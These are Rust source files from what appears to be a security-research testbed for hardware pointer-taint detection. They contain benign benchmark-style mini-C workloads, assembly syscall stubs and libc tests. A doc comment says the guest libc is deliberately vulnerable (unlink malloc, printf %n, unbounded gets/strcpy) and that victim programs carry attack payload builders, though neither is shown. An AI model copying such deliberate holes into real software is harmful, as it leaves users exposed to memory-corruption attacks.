//! The paper runs six SPEC 2000 INT binaries (BZIP2, GCC, GZIP, MCF,
//! PARSER, VPR) on the taint-tracking architecture and observes **zero
//! alerts**. SPEC binaries and inputs are licensed and unavailable here, so
//! each workload below mirrors the corresponding benchmark's computational
//! kernel in mini-C:
//!
//! | Workload | SPEC counterpart | Kernel |
//! |---|---|---|
//! | `bzip2` | 256.bzip2 | RLE + move-to-front + byte frequency modelling |
//! | `gcc` | 176.gcc | expression tokenizer → parser → stack-code generator → evaluator |
//! | `gzip` | 164.gzip | LZ77 with a hashed match finder over a sliding window |
//! | `mcf` | 181.mcf | network flow: Bellman-Ford cost relaxation on a generated graph |
//! | `parser` | 197.parser | dictionary hash table + sentence grammar checker |
//! | `vpr` | 175.vpr | simulated-annealing placement with a deterministic LCG |
//!
//! Every workload consumes tainted input bytes (the OS taints all
//! `read`/`recv` data) and exercises heavy pointer/ALU traffic over data
//! derived from them. Where an input-derived value indexes a table, the
//! code validates it first (`checked_index`, the paper's §4.2
//! compare-untaints-validation idiom) — the same reason the paper's SPEC
//! runs are alert-free.

use ptaint_os::WorldConfig;

/// A workload: name, guest source, and a deterministic input generator.
#[derive(Debug, Clone, Copy)]
pub struct Workload {
    /// Display name (matches the SPEC counterpart, lowercase).
    pub name: &'static str,
    /// The SPEC 2000 benchmark this mirrors.
    pub spec_name: &'static str,
    /// Mini-C program source.
    pub source: &'static str,
    /// Deterministic input generator; `scale` controls input size.
    pub input: fn(scale: u32) -> Vec<u8>,
}

impl Workload {
    /// Builds the world (stdin = generated input) for a given scale.
    #[must_use]
    pub fn world(&self, scale: u32) -> WorldConfig {
        WorldConfig::new().stdin((self.input)(scale))
    }
}

/// All six workloads, in the paper's Table 3 order.
#[must_use]
pub fn all() -> Vec<Workload> {
    vec![
        Workload {
            name: "bzip2",
            spec_name: "256.bzip2",
            source: BZIP2_SOURCE,
            input: text_input,
        },
        Workload {
            name: "gcc",
            spec_name: "176.gcc",
            source: GCC_SOURCE,
            input: expr_input,
        },
        Workload {
            name: "gzip",
            spec_name: "164.gzip",
            source: GZIP_SOURCE,
            input: text_input,
        },
        Workload {
            name: "mcf",
            spec_name: "181.mcf",
            source: MCF_SOURCE,
            input: graph_input,
        },
        Workload {
            name: "parser",
            spec_name: "197.parser",
            source: PARSER_SOURCE,
            input: sentence_input,
        },
        Workload {
            name: "vpr",
            spec_name: "175.vpr",
            source: VPR_SOURCE,
            input: place_input,
        },
    ]
}

/// Pseudo-text with repetitions and structure (compresses interestingly).
fn text_input(scale: u32) -> Vec<u8> {
    let words: [&[u8]; 8] = [
        b"the ", b"quick ", b"brown ", b"fox ", b"jumps ", b"over ", b"lazy ", b"dog ",
    ];
    let mut out = Vec::new();
    let mut state = 0x1234_5678u32;
    for i in 0..scale * 80 {
        state = state.wrapping_mul(1_103_515_245).wrapping_add(12_345);
        let w = words[(state >> 16) as usize % words.len()];
        out.extend_from_slice(w);
        if i % 7 == 0 {
            // Runs for the RLE stage.
            out.extend_from_slice(&[b'a' + (i % 26) as u8; 12]);
        }
        if i % 13 == 0 {
            out.push(b'\n');
        }
    }
    out
}

/// Arithmetic expressions, one per line.
fn expr_input(scale: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let mut state = 0x9e37_79b9u32;
    for _ in 0..scale * 12 {
        let mut rnd = || {
            state = state.wrapping_mul(1_103_515_245).wrapping_add(12_345);
            (state >> 16) % 90 + 1
        };
        let line = format!(
            "({} + {}) * {} - {} / {} + {} * ({} - {})\n",
            rnd(),
            rnd(),
            rnd(),
            rnd(),
            rnd(),
            rnd(),
            rnd(),
            rnd()
        );
        out.extend_from_slice(line.as_bytes());
    }
    out
}

/// Graph description: `nodes edges` then per-node supply values.
fn graph_input(scale: u32) -> Vec<u8> {
    let nodes = (8 + scale * 4).min(180);
    let mut out = format!("{nodes}\n").into_bytes();
    let mut state = 0xdead_beefu32;
    for _ in 0..nodes {
        state = state.wrapping_mul(1_103_515_245).wrapping_add(12_345);
        out.extend_from_slice(format!("{} ", (state >> 16) % 97).as_bytes());
    }
    out.push(b'\n');
    out
}

/// Sentences over a small vocabulary, one per line.
fn sentence_input(scale: u32) -> Vec<u8> {
    let nouns = ["dog", "cat", "bird", "fish", "tree"];
    let verbs = ["sees", "chases", "likes", "eats"];
    let mut out = Vec::new();
    let mut state = 0x0bad_cafeu32;
    for i in 0..scale * 25 {
        let mut rnd = |m: usize| {
            state = state.wrapping_mul(1_103_515_245).wrapping_add(12_345);
            ((state >> 16) as usize) % m
        };
        let n1 = nouns[rnd(nouns.len())];
        let v = verbs[rnd(verbs.len())];
        let n2 = nouns[rnd(nouns.len())];
        if i % 9 == 0 {
            // An ungrammatical (noun noun noun) line exercising the reject
            // path; still three tokens so the token stream stays aligned.
            out.extend_from_slice(format!("{n1} {n2} {n2}\n").as_bytes());
        } else {
            out.extend_from_slice(format!("{n1} {v} {n2}\n").as_bytes());
        }
    }
    out
}

/// Placement parameters: `cells nets moves`.
fn place_input(scale: u32) -> Vec<u8> {
    let cells = (12 + scale * 2).min(120);
    let nets = (cells * 3) / 2;
    let moves = 200 + scale * 50;
    format!("{cells} {nets} {moves}\n").into_bytes()
}

/// RLE + move-to-front + frequency model (the bzip2 pipeline's shape).
pub const BZIP2_SOURCE: &str = r#"
char block[16384];
char rle[20000];
char mtf_table[256];
int freq[256];

int main() {
    int n = 0;
    int c;
    int i;
    int run;
    int out = 0;
    int sym;
    int j;
    int checksum = 0;

    /* slurp the block */
    c = getchar();
    while (c >= 0 && n < 16000) {
        block[n] = c;
        n++;
        c = getchar();
    }

    /* stage 1: run-length encoding */
    i = 0;
    while (i < n) {
        run = 1;
        while (i + run < n && block[i + run] == block[i] && run < 255) run++;
        if (run >= 4) {
            rle[out] = block[i]; out++;
            rle[out] = block[i]; out++;
            rle[out] = block[i]; out++;
            rle[out] = block[i]; out++;
            rle[out] = run - 4; out++;
        } else {
            for (j = 0; j < run; j++) { rle[out] = block[i]; out++; }
        }
        i += run;
    }

    /* stage 2: move-to-front transform */
    for (i = 0; i < 256; i++) mtf_table[i] = i;
    for (i = 0; i < out; i++) {
        sym = checked_index(rle[i] & 0xff, 0, 255);
        j = 0;
        while ((mtf_table[j] & 0xff) != sym) j++;
        checksum += j;
        while (j > 0) { mtf_table[j] = mtf_table[j - 1]; j--; }
        mtf_table[0] = sym;
        /* stage 3: frequency model */
        freq[sym]++;
    }

    /* entropy proxy: sum of f*log2-ish weights */
    for (i = 0; i < 256; i++) {
        j = freq[i];
        while (j > 1) { checksum += 1; j = j >> 1; }
    }

    printf("bzip2: in=%d rle=%d checksum=%d\n", n, out, checksum);
    return 0;
}
"#;

/// Tokenizer → recursive-descent parser → stack-code generator → evaluator
/// (the shape of a compiler front end plus constant evaluation).
pub const GCC_SOURCE: &str = r#"
char src[8192];
int pos;
int code[4096];
int ncode;
int stack[256];

int peek_ch() { return src[pos] & 0xff; }

void skip_ws() {
    while (src[pos] == ' ' || src[pos] == '\t') pos++;
}

/* emit: 1=push imm, 2=add, 3=sub, 4=mul, 5=div */
void emit(int op, int arg) {
    code[ncode] = op;
    code[ncode + 1] = arg;
    ncode += 2;
}

void expr();

void primary() {
    int v = 0;
    skip_ws();
    if (src[pos] == '(') {
        pos++;
        expr();
        skip_ws();
        if (src[pos] == ')') pos++;
        return;
    }
    while (src[pos] >= '0' && src[pos] <= '9') {
        v = v * 10 + checked_index(src[pos] - '0', 0, 9);
        pos++;
    }
    emit(1, v);
}

void term() {
    int op;
    primary();
    skip_ws();
    while (src[pos] == '*' || src[pos] == '/') {
        op = src[pos];
        pos++;
        primary();
        skip_ws();
        if (op == '*') emit(4, 0); else emit(5, 0);
    }
}

void expr() {
    int op;
    term();
    skip_ws();
    while (src[pos] == '+' || src[pos] == '-') {
        op = src[pos];
        pos++;
        term();
        skip_ws();
        if (op == '+') emit(2, 0); else emit(3, 0);
    }
}

int execute() {
    int pc = 0;
    int sp = 0;
    int a;
    int b;
    while (pc < ncode) {
        int op = code[pc];
        int arg = code[pc + 1];
        if (op == 1) { stack[sp] = arg; sp++; }
        else {
            b = stack[sp - 1];
            a = stack[sp - 2];
            sp -= 2;
            if (op == 2) stack[sp] = a + b;
            else if (op == 3) stack[sp] = a - b;
            else if (op == 4) stack[sp] = a * b;
            else if (op == 5) { if (b == 0) stack[sp] = 0; else stack[sp] = a / b; }
            sp++;
        }
        pc += 2;
    }
    if (sp > 0) return stack[sp - 1];
    return 0;
}

int main() {
    int n = 0;
    int c;
    int lines = 0;
    int total = 0;
    int start;
    c = getchar();
    while (c >= 0 && n < 8000) {
        src[n] = c;
        n++;
        c = getchar();
    }
    src[n] = 0;
    pos = 0;
    while (pos < n) {
        start = pos;
        ncode = 0;
        expr();
        total += execute();
        lines++;
        while (pos < n && src[pos] != '\n') pos++;
        if (pos < n) pos++;
        if (pos == start) break;
    }
    printf("gcc: lines=%d total=%d\n", lines, total);
    return 0;
}
"#;

/// LZ77 with a hashed match finder over a sliding window (gzip's deflate
/// core shape).
pub const GZIP_SOURCE: &str = r#"
char window[16384];
int head[1024];
int prev[16384];

int hash3(int a, int b, int c) {
    int h = ((a << 6) ^ (b << 3) ^ c) & 1023;
    return checked_index(h, 0, 1023);
}

int main() {
    int n = 0;
    int c;
    int i;
    int h;
    int cand;
    int len;
    int best_len;
    int best_dist;
    int literals = 0;
    int matches = 0;
    int outbits = 0;
    int checksum = 1;

    c = getchar();
    while (c >= 0 && n < 16000) {
        window[n] = c;
        /* adler-ish checksum over tainted data: pure ALU, no deref */
        checksum = (checksum + (c & 0xff)) % 65521;
        n++;
        c = getchar();
    }
    for (i = 0; i < 1024; i++) head[i] = -1;

    i = 0;
    while (i + 3 < n) {
        h = hash3(window[i] & 0xff, window[i+1] & 0xff, window[i+2] & 0xff);
        cand = head[h];
        best_len = 0;
        best_dist = 0;
        while (cand >= 0 && i - cand < 8192) {
            len = 0;
            while (i + len < n && window[cand + len] == window[i + len] && len < 258) len++;
            if (len > best_len) { best_len = len; best_dist = i - cand; }
            cand = prev[cand];
        }
        prev[i] = head[h];
        head[h] = i;
        if (best_len >= 3) {
            matches++;
            outbits += 15;        /* pretend: length+distance code */
            /* insert the skipped positions into the hash chains */
            len = best_len - 1;
            while (len > 0 && i + 3 < n) {
                i++;
                h = hash3(window[i] & 0xff, window[i+1] & 0xff, window[i+2] & 0xff);
                prev[i] = head[h];
                head[h] = i;
                len--;
            }
            i++;
        } else {
            literals++;
            outbits += 9;
            i++;
        }
    }
    printf("gzip: in=%d literals=%d matches=%d bits=%d adler=%d\n",
           n, literals, matches, outbits, checksum);
    return 0;
}
"#;

/// Network-flow relaxation: build a layered graph from input supplies and
/// run Bellman-Ford until no cost improves (mcf's pricing loop shape).
pub const MCF_SOURCE: &str = r#"
int supply[200];
int arc_from[2048];
int arc_to[2048];
int arc_cost[2048];
int dist[200];

int main() {
    int nodes;
    int i;
    int j;
    int narcs = 0;
    int rounds = 0;
    int changed = 1;
    int checksum = 0;
    scanf("%d", &nodes);
    if (nodes < 2) nodes = 2;
    if (nodes > 180) nodes = 180;
    for (i = 0; i < nodes; i++) {
        scanf("%d", &supply[i]);
    }
    /* ring + chords, costs from the (validated) supplies */
    for (i = 0; i < nodes; i++) {
        arc_from[narcs] = i;
        arc_to[narcs] = (i + 1) % nodes;
        arc_cost[narcs] = checked_index(supply[i], 0, 96) + 1;
        narcs++;
        if (i % 3 == 0) {
            arc_from[narcs] = i;
            arc_to[narcs] = (i + 7) % nodes;
            arc_cost[narcs] = checked_index(supply[(i + 1) % nodes], 0, 96) + 5;
            narcs++;
        }
    }
    for (i = 0; i < nodes; i++) dist[i] = 1000000;
    dist[0] = 0;
    while (changed && rounds < nodes + 1) {
        changed = 0;
        for (j = 0; j < narcs; j++) {
            int u = arc_from[j];
            int v = arc_to[j];
            if (dist[u] + arc_cost[j] < dist[v]) {
                dist[v] = dist[u] + arc_cost[j];
                changed = 1;
            }
        }
        rounds++;
    }
    for (i = 0; i < nodes; i++) checksum += dist[i];
    printf("mcf: nodes=%d arcs=%d rounds=%d cost=%d\n", nodes, narcs, rounds, checksum);
    return 0;
}
"#;

/// Dictionary hash table + grammar check (parser's dictionary-lookup
/// shape): sentences must match noun–verb–noun.
pub const PARSER_SOURCE: &str = r#"
char words[64][12];
int kinds[64];          /* 1 = noun, 2 = verb */
int nwords;
int buckets[64];
int chain[64];

int word_hash(char *w) {
    int h = 0;
    int i = 0;
    while (w[i]) {
        h = h * 31 + (w[i] & 0xff);
        i++;
    }
    return checked_index(h & 63, 0, 63);
}

void define_word(char *w, int kind) {
    int h;
    strcpy(words[nwords], w);
    kinds[nwords] = kind;
    h = word_hash(w);
    chain[nwords] = buckets[h];
    buckets[h] = nwords + 1;       /* 0 = empty */
    nwords++;
}

int lookup(char *w) {
    int slot = buckets[word_hash(w)];
    while (slot) {
        if (strcmp(words[slot - 1], w) == 0) return kinds[slot - 1];
        slot = chain[slot - 1];
    }
    return 0;
}

int main() {
    char token[3][16];
    int t;
    int ok = 0;
    int bad = 0;
    int unknown = 0;
    int k1;
    int k2;
    int k3;
    int got;

    define_word("dog", 1);
    define_word("cat", 1);
    define_word("bird", 1);
    define_word("fish", 1);
    define_word("tree", 1);
    define_word("sees", 2);
    define_word("chases", 2);
    define_word("likes", 2);
    define_word("eats", 2);

    while (1) {
        got = 0;
        for (t = 0; t < 3; t++) {
            if (scanf("%s", token[t]) < 1) break;
            got++;
        }
        if (got == 0) break;
        if (got < 3) { bad++; break; }
        k1 = lookup(token[0]);
        k2 = lookup(token[1]);
        k3 = lookup(token[2]);
        if (k1 == 0 || k2 == 0 || k3 == 0) unknown++;
        else if (k1 == 1 && k2 == 2 && k3 == 1) ok++;
        else bad++;
    }
    printf("parser: ok=%d bad=%d unknown=%d dict=%d\n", ok, bad, unknown, nwords);
    return 0;
}
"#;

/// Simulated-annealing placement on a grid with a deterministic LCG
/// (vpr's placer shape).
pub const VPR_SOURCE: &str = r#"
int cell_x[128];
int cell_y[128];
int net_a[256];
int net_b[256];

int net_len(int i) {
    int dx = cell_x[net_a[i]] - cell_x[net_b[i]];
    int dy = cell_y[net_a[i]] - cell_y[net_b[i]];
    return abs(dx) + abs(dy);
}

int main() {
    int cells;
    int nets;
    int moves;
    int i;
    int m;
    int cost = 0;
    int c;
    int ox;
    int oy;
    int before;
    int after;
    int accepted = 0;
    int temperature;

    scanf("%d", &cells);
    scanf("%d", &nets);
    scanf("%d", &moves);
    cells = checked_index(cells, 2, 120);
    nets = checked_index(nets, 1, 250);
    moves = checked_index(moves, 1, 20000);

    srand(20050628);   /* DSN 2005 */
    for (i = 0; i < cells; i++) {
        cell_x[i] = rand() % 16;
        cell_y[i] = rand() % 16;
    }
    for (i = 0; i < nets; i++) {
        net_a[i] = rand() % cells;
        net_b[i] = rand() % cells;
    }
    for (i = 0; i < nets; i++) cost += net_len(i);

    temperature = 8;
    for (m = 0; m < moves; m++) {
        c = rand() % cells;
        ox = cell_x[c];
        oy = cell_y[c];
        before = 0;
        for (i = 0; i < nets; i++) {
            if (net_a[i] == c || net_b[i] == c) before += net_len(i);
        }
        cell_x[c] = rand() % 16;
        cell_y[c] = rand() % 16;
        after = 0;
        for (i = 0; i < nets; i++) {
            if (net_a[i] == c || net_b[i] == c) after += net_len(i);
        }
        if (after <= before + temperature) {
            cost = cost - before + after;
            accepted++;
        } else {
            cell_x[c] = ox;
            cell_y[c] = oy;
        }
        if (m % 100 == 99 && temperature > 0) temperature--;
    }
    printf("vpr: cells=%d nets=%d moves=%d accepted=%d cost=%d\n",
           cells, nets, moves, accepted, cost);
    return 0;
}
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::DetectionPolicy;
    use ptaint_os::ExitReason;

    /// Every workload must run to completion under full pointer-taintedness
    /// detection without a single alert — the Table 3 property.
    #[test]
    fn all_workloads_run_alert_free_under_full_detection() {
        for w in all() {
            let image =
                build(w.source).unwrap_or_else(|e| panic!("{} failed to build: {e}", w.name));
            let out = run_app(&image, w.world(3), DetectionPolicy::PointerTaintedness);
            assert_eq!(
                out.reason,
                ExitReason::Exited(0),
                "{}: {:?}\nstdout: {}",
                w.name,
                out.reason,
                out.stdout_text()
            );
            assert!(
                out.stdout_text().starts_with(w.name),
                "{} must report stats: {}",
                w.name,
                out.stdout_text()
            );
            assert!(out.stats.instructions > 1_000, "{} too trivial", w.name);
        }
    }

    /// Outputs must be identical across detection policies (taint tracking
    /// never changes architectural results) and deterministic across runs.
    #[test]
    fn workload_outputs_are_policy_independent_and_deterministic() {
        for w in all() {
            let image = build(w.source).unwrap();
            let full = run_app(&image, w.world(2), DetectionPolicy::PointerTaintedness);
            let off = run_app(&image, w.world(2), DetectionPolicy::Off);
            let again = run_app(&image, w.world(2), DetectionPolicy::PointerTaintedness);
            assert_eq!(full.stdout, off.stdout, "{}", w.name);
            assert_eq!(full.stdout, again.stdout, "{}", w.name);
            assert_eq!(
                full.stats.instructions, off.stats.instructions,
                "{}",
                w.name
            );
        }
    }

    /// The workloads genuinely consume tainted input.
    #[test]
    fn workloads_consume_tainted_input() {
        for w in all() {
            let image = build(w.source).unwrap();
            let out = run_app(&image, w.world(2), DetectionPolicy::PointerTaintedness);
            assert!(
                out.tainted_input_bytes > 0,
                "{} consumed no tainted input",
                w.name
            );
            assert!(
                out.stats.tainted_operand_instructions > 0,
                "{} never touched tainted data",
                w.name
            );
        }
    }

    /// Spot-check a couple of program outputs for correctness.
    #[test]
    fn gcc_workload_computes_correct_totals() {
        let image = build(GCC_SOURCE).unwrap();
        let out = run_app(
            &image,
            WorldConfig::new().stdin(b"1 + 2 * 3\n(4 - 1) * 5\n10 / 2 - 3\n".to_vec()),
            DetectionPolicy::PointerTaintedness,
        );
        // 7 + 15 + 2 = 24
        assert_eq!(out.stdout_text(), "gcc: lines=3 total=24\n");
    }

    #[test]
    fn parser_workload_classifies_sentences() {
        let image = build(PARSER_SOURCE).unwrap();
        let out = run_app(
            &image,
            WorldConfig::new()
                .stdin(b"dog sees cat\ncat eats fish\ndog cat bird\nwug sees dog\n".to_vec()),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.stdout_text(), "parser: ok=2 bad=1 unknown=1 dict=9\n");
    }

    #[test]
    fn gzip_workload_finds_matches_in_repetitive_text() {
        let image = build(GZIP_SOURCE).unwrap();
        let out = run_app(
            &image,
            WorldConfig::new().stdin(b"abcabcabcabcabcabcabcabc".to_vec()),
            DetectionPolicy::PointerTaintedness,
        );
        let text = out.stdout_text();
        assert!(text.starts_with("gzip: in=24"), "{text}");
        assert!(text.contains("matches="), "{text}");
        // Strong repetition must yield at least one match.
        assert!(!text.contains("matches=0"), "{text}");
    }
}
