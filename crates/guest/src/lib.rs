#![warn(missing_docs)]

//! # ptaint-guest — guest-side programs for the taintedness testbed
//!
//! Everything that runs *inside* the simulated machine lives here:
//!
//! * [`runtime`] — crt0, syscall stubs, the guest libc (written in mini-C,
//!   including the vulnerable `malloc`/`free` with classic unlink, `printf`
//!   with `%n`, unbounded `scanf("%s")`/`gets`/`strcpy`), and the
//!   [`runtime::build`] pipeline producing loadable images;
//! * [`apps`] — the paper's victim programs: the synthetic exp1/exp2/exp3
//!   of Figure 2, the real-world-style network daemons of §5.1.2 (WU-FTPD,
//!   NULL HTTPD, GHTTPD, traceroute), and the Table 4 false-negative trio —
//!   each with attack payload builders and benign inputs;
//! * [`workloads`] — six SPEC 2000-like benchmark programs for the
//!   false-positive experiment of Table 3.

#[path = "apps/mod.rs"]
pub mod apps;
pub mod runtime;
pub mod workloads;

pub use runtime::{build, build_optimized, BuildError, CRT0_ASM, LIBC_C, SYSCALL_STUBS_ASM};
