//! The guest runtime: program entry, syscall stubs, and the build pipeline
//! (mini-C → assembly → image).

use std::fmt;

use ptaint_asm::{AsmError, Image};
use ptaint_cc::CcError;

/// The guest C library source (compiled into every program).
pub const LIBC_C: &str = include_str!("libc.c");

/// Program entry point: forwards `argc`/`argv`/`envp` from the loader's
/// registers onto the stack per the all-args-on-stack ABI, calls `main`, and
/// exits with its return value.
pub const CRT0_ASM: &str = r"
# ---- crt0 ----
_start:
        addiu $sp, $sp, -12
        sw $a0, 0($sp)          # argc
        sw $a1, 4($sp)          # argv
        sw $a2, 8($sp)          # envp
        jal main
        move $a0, $v0
        li $v0, 1               # SYS_EXIT
        syscall
        break 1                 # unreachable
";

/// System-call stubs. Each reads its arguments from the caller's argument
/// area (`0($sp)`, `4($sp)`, …; the callee's frame pointer would alias
/// `$sp` here since stubs are leaf routines with no frame) and traps.
pub const SYSCALL_STUBS_ASM: &str = r"
# ---- syscall stubs ----
read:
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        lw $a2, 8($sp)
        li $v0, 3
        syscall
        jr $ra
write:
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        lw $a2, 8($sp)
        li $v0, 4
        syscall
        jr $ra
open:
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        li $v0, 5
        syscall
        jr $ra
close:
        lw $a0, 0($sp)
        li $v0, 6
        syscall
        jr $ra
brk:
        lw $a0, 0($sp)
        li $v0, 9
        syscall
        jr $ra
getuid:
        li $v0, 24
        syscall
        jr $ra
socket:
        li $v0, 42
        syscall
        jr $ra
bind:
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        li $v0, 43
        syscall
        jr $ra
listen:
        lw $a0, 0($sp)
        li $v0, 44
        syscall
        jr $ra
accept:
        lw $a0, 0($sp)
        li $v0, 45
        syscall
        jr $ra
recv:
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        lw $a2, 8($sp)
        li $v0, 46
        syscall
        jr $ra
send:
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        lw $a2, 8($sp)
        li $v0, 47
        syscall
        jr $ra
exit:
        lw $a0, 0($sp)
        li $v0, 1
        syscall
        break 2                 # unreachable

# int checked_index(int v, int lo, int hi)
#
# Range validation performed in registers: returns v clamped to [lo, hi].
# Because `slt` is a compare instruction, the hardware untaints the checked
# value (paper Table 1, row 5 / §4.2) — this is the validation idiom that
# lets input-derived values index tables without tripping the pointer
# taintedness detector, exactly as register-allocated compiled code would
# behave on the paper's architecture. (ptaint-cc keeps locals in memory, so
# a C-level `if` untaints only a transient register copy; this helper makes
# the validated, untainted value the function result.)
checked_index:
        lw $v0, 0($sp)          # v
        lw $t0, 4($sp)          # lo
        lw $t1, 8($sp)          # hi
        slt $at, $v0, $t0       # compare: untaints $v0/$t0
        bne $at, $zero, _checked_lo
        slt $at, $t1, $v0       # compare: untaints $v0/$t1
        bne $at, $zero, _checked_hi
        jr $ra
_checked_lo:
        move $v0, $t0
        jr $ra
_checked_hi:
        move $v0, $t1
        jr $ra
";

/// A failure while building a guest program.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BuildError {
    /// The mini-C front end rejected the program.
    Compile(CcError),
    /// The generated (or hand-written) assembly failed to assemble.
    Assemble(AsmError),
}

impl fmt::Display for BuildError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BuildError::Compile(e) => write!(f, "compile: {e}"),
            BuildError::Assemble(e) => write!(f, "assemble: {e}"),
        }
    }
}

impl std::error::Error for BuildError {}

impl From<CcError> for BuildError {
    fn from(e: CcError) -> BuildError {
        BuildError::Compile(e)
    }
}

impl From<AsmError> for BuildError {
    fn from(e: AsmError) -> BuildError {
        BuildError::Assemble(e)
    }
}

/// Compiles `app_c` together with the guest libc and links it with the
/// runtime (crt0 + syscall stubs) into a loadable [`Image`].
///
/// The libc and the application are compiled as a single translation unit
/// (mini-C has no linker-level symbol management), so application sources
/// must not redefine libc names.
///
/// # Errors
///
/// Returns a [`BuildError`] on compile or assembly failure. Line numbers in
/// compile errors refer to the concatenated unit; libc occupies the leading
/// lines.
pub fn build(app_c: &str) -> Result<Image, BuildError> {
    let unit = format!("{LIBC_C}\n{app_c}\n");
    let compiled = ptaint_cc::compile(&unit)?;
    let full = format!("{compiled}\n{CRT0_ASM}\n{SYSCALL_STUBS_ASM}\n");
    Ok(ptaint_asm::assemble(&full)?)
}

/// Like [`build`], but runs the mini-C peephole optimizer over the
/// generated assembly. Used by the optimizer study; the paper experiments
/// run unoptimized code because attack payload calibration depends on the
/// exact frame geometry.
///
/// # Errors
///
/// Same conditions as [`build`].
pub fn build_optimized(app_c: &str) -> Result<Image, BuildError> {
    let unit = format!("{LIBC_C}\n{app_c}\n");
    let compiled = ptaint_cc::compile_optimized(&unit)?;
    let full = format!("{compiled}\n{CRT0_ASM}\n{SYSCALL_STUBS_ASM}\n");
    Ok(ptaint_asm::assemble(&full)?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_cpu::DetectionPolicy;
    use ptaint_mem::HierarchyConfig;
    use ptaint_os::{load, run_to_exit, ExitReason, RunOutcome, WorldConfig};

    fn run(app_c: &str, world: WorldConfig) -> RunOutcome {
        let image = build(app_c).unwrap_or_else(|e| panic!("build failed: {e}"));
        let (mut cpu, mut os) = load(
            &image,
            world,
            DetectionPolicy::PointerTaintedness,
            HierarchyConfig::flat(),
        );
        run_to_exit(&mut cpu, &mut os, 50_000_000)
    }

    #[test]
    fn hello_world_through_printf() {
        let out = run(
            r#"int main() { printf("hello, %s! %d %x %c%%\n", "world", -42, 255, 'y'); return 0; }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
        assert_eq!(out.stdout_text(), "hello, world! -42 ff y%\n");
    }

    #[test]
    fn malloc_free_roundtrip() {
        let out = run(
            r#"int main() {
                int i;
                char *a = malloc(100);
                char *b = malloc(200);
                for (i = 0; i < 100; i++) a[i] = i;
                free(a);
                char *c = malloc(50);   /* should reuse a's chunk */
                if (c != a) return 1;
                free(b);
                free(c);
                char *d = malloc(40);
                if (d != c) return 2;
                printf("heap ok\n");
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(
            out.reason,
            ExitReason::Exited(0),
            "stdout: {}",
            out.stdout_text()
        );
        assert_eq!(out.stdout_text(), "heap ok\n");
    }

    #[test]
    fn malloc_splits_and_coalesces() {
        let out = run(
            r#"int main() {
                /* allocate a big block, free it, then carve a small one:
                   the remainder must be a free neighbour that coalesces back. */
                char *big = malloc(400);
                unsigned before = (unsigned)big;
                free(big);
                char *small = malloc(32);
                if ((unsigned)small != before) return 1;
                free(small);
                char *again = malloc(400);
                if ((unsigned)again != before) return 2; /* coalesced back */
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
    }

    #[test]
    fn string_functions() {
        let out = run(
            r#"int main() {
                char buf[64];
                strcpy(buf, "abc");
                strcat(buf, "def");
                if (strlen(buf) != 6) return 1;
                if (strcmp(buf, "abcdef") != 0) return 2;
                if (strcmp("abc", "abd") >= 0) return 3;
                if (strncmp("abcdef", "abcxyz", 3) != 0) return 4;
                if (strstr(buf, "cde") != buf + 2) return 5;
                if (strstr(buf, "zzz") != 0) return 6;
                if (strchr(buf, 'd') != buf + 3) return 7;
                if (atoi("  -123") != -123) return 8;
                if (atoi("456x") != 456) return 9;
                memset(buf, 'x', 4);
                if (buf[0] != 'x' || buf[3] != 'x' || buf[4] != 'e') return 10;
                char dst[8];
                memcpy(dst, buf, 6);
                if (memcmp(dst, buf, 6) != 0) return 11;
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
    }

    #[test]
    fn sprintf_and_snprintf() {
        let out = run(
            r#"int main() {
                char buf[64];
                int n = sprintf(buf, "v=%d h=%x s=%s", 7, 0xbeef, "ok");
                printf("[%s] %d\n", buf, n);
                char tiny[8];
                snprintf(tiny, 8, "0123456789");
                printf("[%s]\n", tiny);
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.stdout_text(), "[v=7 h=beef s=ok] 15\n[0123456]\n");
    }

    #[test]
    fn scanf_reads_stdin_tainted() {
        let out = run(
            r#"int main() {
                char word[32];
                int n;
                scanf("%s", word);
                scanf("%d", &n);
                printf("%s:%d\n", word, n + 1);
                return 0;
            }"#,
            WorldConfig::new().stdin(b"hello 41".to_vec()),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
        assert_eq!(out.stdout_text(), "hello:42\n");
        assert!(out.tainted_input_bytes > 0);
    }

    #[test]
    fn gets_reads_a_line() {
        let out = run(
            r#"int main() {
                char line[64];
                gets(line);
                printf("<%s>", line);
                return 0;
            }"#,
            WorldConfig::new().stdin(b"a line here\nrest".to_vec()),
        );
        assert_eq!(out.stdout_text(), "<a line here>");
    }

    #[test]
    fn command_line_arguments() {
        let out = run(
            r#"int main(int argc, char **argv) {
                int i;
                printf("%d", argc);
                for (i = 0; i < argc; i++) printf(" %s", argv[i]);
                return 0;
            }"#,
            WorldConfig::new().args(["prog", "-g", "123"]),
        );
        assert_eq!(out.stdout_text(), "3 prog -g 123");
    }

    #[test]
    fn file_io() {
        let out = run(
            r#"int main() {
                char buf[32];
                int fd = open("/etc/motd", 0);
                if (fd < 0) return 1;
                int n = read(fd, buf, 31);
                buf[n] = 0;
                close(fd);
                int wfd = open("/tmp/out", 1);
                write(wfd, buf, n);
                close(wfd);
                printf("%s", buf);
                return 0;
            }"#,
            WorldConfig::new().file("/etc/motd", b"welcome".to_vec()),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
        assert_eq!(out.stdout_text(), "welcome");
    }

    #[test]
    fn sockets_roundtrip() {
        let out = run(
            r#"int main() {
                char buf[128];
                int s = socket();
                bind(s, 80);
                listen(s);
                int c = accept(s);
                int n = recv(c, buf, 127, 0);
                buf[n] = 0;
                send(c, "ack:", 4);
                send(c, buf, n);
                close(c);
                return 0;
            }"#,
